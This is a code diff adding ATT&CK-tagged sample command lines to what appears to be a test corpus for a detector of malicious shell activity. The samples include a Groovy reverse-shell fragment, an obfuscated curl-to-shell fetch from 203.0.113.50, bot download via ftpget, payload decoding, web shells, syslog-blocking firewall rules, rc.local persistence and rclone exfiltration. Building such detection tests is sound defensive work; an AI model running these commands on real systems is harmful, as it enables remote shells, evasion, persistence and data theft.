@@ -344,8 +344,32 @@ T1548.003 nmap --interactive
 """
 """Lines of a second set of 391, written before the rules were read, that its first pass missed."""
 
+_THIRD_USER = r"""
+T1059 groovy -e 'String h="203.0.113.9";int p=80;Process q=new ProcessBuilder("sh").redirectErrorStream(true).start();Socket s=new Socket(h,p)'
+T1564.001 '/tmp/ /a'
+T1505.003 /var/www/html/uploads/.thumbs/apache2 -c cfg
+T1505.003 /srv/www/shop/media/2026/upd -d
+T1027 bash -c "$(echo 'fu -v' | tr 'a-z' 'n-za-m')"
+T1027 bash -c "$(rev <<< 'hs | x/05.311.0.302//:ptth lruc')"
+T1027 $ tail -n +12 /tmp/.inst | gunzip -c | sh
+T1105 ftpget -u a -p a 203.0.113.50 bot.arm bot.arm
+T1140 uudecode -o /tmp/.q /tmp/q.uu
+T1140 $ base64 -d /tmp/p.b64 > /dev/shm/p
+"""
+
+_THIRD_ROOT = r"""
+T1562.004 iptables -I OUTPUT -p udp --dport 514 -j DROP
+T1562.004 nft add rule inet filter output tcp dport 6514 drop
+T1037.004 $ sed -i "/^exit 0/i /usr/bin/.sd &" /etc/rc.local
+T1037.004 perl -pi -e 's#^exit 0#/tmp/.u &#' /etc/rc.local
+T1567.002 rclone copy /srv/share mega:bk --transfers 16
+T1567.002 rclone sync /home gd:x --config /tmp/.rc.conf
+"""
+"""Of a third set, of 171: what its first pass missed, and kin."""
+
 BLOCKS: tuple[tuple[Actor, str], ...] = (
     (NEWCOMER, _USER), (ROOT, _ROOT), (JOBS, _JOB), (NEWCOMER, _MISSED_USER), (ROOT, _MISSED_ROOT),
+    (NEWCOMER, _THIRD_USER), (ROOT, _THIRD_ROOT),
 )  # fmt: skip
 
 
